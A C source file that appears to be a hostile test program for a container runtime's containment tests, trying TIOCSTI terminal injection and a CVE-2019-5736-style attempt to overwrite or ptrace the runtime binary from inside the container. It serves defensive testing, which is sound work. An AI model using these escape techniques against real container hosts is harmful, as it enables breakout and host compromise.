/* attack: a hostile program that containment tests copy into a container's rootfs (built with
 * `gcc -static` by ct-exec/tests/containment.rs; the busybox rootfs has no compiler or python).
 *
 *   attack tty                 TIOCSTI "echo INJECTED\n" into fd 0, then TIOCSCTTY on fd 0;
 *                              prints tiocsti=ok|E<errno> tiocscty=ok|E<errno> sid=S pid=P
 *   attack exe SECONDS NAME     for SECONDS, scan /proc for processes running the runtime
 *                              (exe ends in "/NAME", is a "/memfd:ct-exec" copy or a
 *                              detached bind mount "/", or exe cannot be read at all):
 *                              open its exe for writing, keep an
 *                              O_PATH fd and later reopen it for writing through
 *                              /proc/self/fd (the CVE-2019-5736 trick), PTRACE_SEIZE it
 *                              (counted when, stopped, it still runs the runtime).
 *                              Prints seen=N wrote=N ptraced=N opath=N.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ptrace.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static double now(void) {
    struct timespec t;
    clock_gettime(CLOCK_MONOTONIC, &t);
    return t.tv_sec + t.tv_nsec / 1e9;
}

static int tty(void) {
    const char *s = "echo INJECTED\n";
    int sti = 0;
    for (const char *p = s; *p; p++) {
        if (ioctl(0, TIOCSTI, p) != 0) {
            sti = errno;
            break;
        }
    }
    int ctty = ioctl(0, TIOCSCTTY, 1) == 0 ? 0 : errno;
    printf(sti ? "tiocsti=E%d\n" : "tiocsti=ok\n", sti);
    printf(ctty ? "tiocscty=E%d\n" : "tiocscty=ok\n", ctty);
    printf("sid=%d\npid=%d\n", (int)getsid(0), (int)getpid());
    return 0;
}

#define MAXKEEP 256
static int kept[MAXKEEP];
static int nkept;

static int try_write(int fd) {
    char p[64];
    snprintf(p, sizeof p, "/proc/self/fd/%d", fd);
    int w = open(p, O_WRONLY);
    if (w < 0)
        return 0;
    int ok = write(w, "PWNED", 5) == 5;
    close(w);
    return ok;
}

/* The runtime's binary as /proc/PID/exe shows it: the file itself (its path ends in "/NAME"),
 * a sealed memfd copy, or a detached read-only bind mount of the file alone ("/"). */
static int is_runtime(const char *target, const char *suffix) {
    size_t tl = strlen(target), sl = strlen(suffix);
    return (tl >= sl && strcmp(target + tl - sl, suffix) == 0) ||
           strncmp(target, "/memfd:ct-exec", 14) == 0 || strcmp(target, "/") == 0;
}

static int exe(double seconds, const char *name) {
    char suffix[256];
    snprintf(suffix, sizeof suffix, "/%s", name);
    long seen = 0, wrote = 0, ptraced = 0, opath = 0;
    pid_t self = getpid();
    double end = now() + seconds;
    while (now() < end) {
        DIR *d = opendir("/proc");
        if (!d)
            return 1;
        struct dirent *e;
        while ((e = readdir(d))) {
            pid_t pid = atoi(e->d_name);
            if (pid <= 0 || pid == self)
                continue;
            char link[64], target[512];
            snprintf(link, sizeof link, "/proc/%d/exe", pid);
            ssize_t n = readlink(link, target, sizeof target - 1);
            int denied = n < 0 && (errno == EACCES || errno == EPERM);
            if (n >= 0) {
                target[n] = 0;
                if (!is_runtime(target, suffix))
                    continue;
            } else if (!denied) {
                continue;
            }
            seen++;
            int w = open(link, O_WRONLY);
            if (w >= 0) {
                if (write(w, "PWNED", 5) == 5)
                    wrote++;
                close(w);
            }
            int o = open(link, O_PATH | O_CLOEXEC);
            if (o >= 0) {
                /* Only what is still the runtime counts: a process that was denied a moment
                 * ago may have become the container's own command since. */
                char self_fd[64], got[512];
                snprintf(self_fd, sizeof self_fd, "/proc/self/fd/%d", o);
                ssize_t g = readlink(self_fd, got, sizeof got - 1);
                got[g < 0 ? 0 : g] = 0;
                if (g <= 0 || !is_runtime(got, suffix)) {
                    close(o);
                    o = -1;
                }
            }
            if (o >= 0) {
                opath++;
                if (nkept < MAXKEEP)
                    kept[nkept++] = o;
                else
                    close(o);
            }
            if (ptrace(PTRACE_SEIZE, pid, 0, 0) == 0) {
                /* Stop it, then look: a process that was already the container's own
                 * command (its execve made it dumpable again) is no runtime. */
                int st;
                ptrace(PTRACE_INTERRUPT, pid, 0, 0);
                waitpid(pid, &st, __WALL);
                n = readlink(link, target, sizeof target - 1);
                target[n < 0 ? 0 : n] = 0;
                if (n > 0 && is_runtime(target, suffix))
                    ptraced++;
                ptrace(PTRACE_DETACH, pid, 0, 0);
            }
        }
        closedir(d);
        for (int i = 0; i < nkept; i++)
            wrote += try_write(kept[i]);
    }
    printf("seen=%ld\nwrote=%ld\nptraced=%ld\nopath=%ld\n", seen, wrote, ptraced, opath);
    fflush(stdout);
    return 0;
}

int main(int argc, char **argv) {
    if (argc >= 2 && strcmp(argv[1], "tty") == 0)
        return tty();
    if (argc >= 4 && strcmp(argv[1], "exe") == 0)
        return exe(atof(argv[2]), argv[3]);
    fprintf(stderr, "usage: attack tty | attack exe SECONDS NAME\n");
    return 2;
}
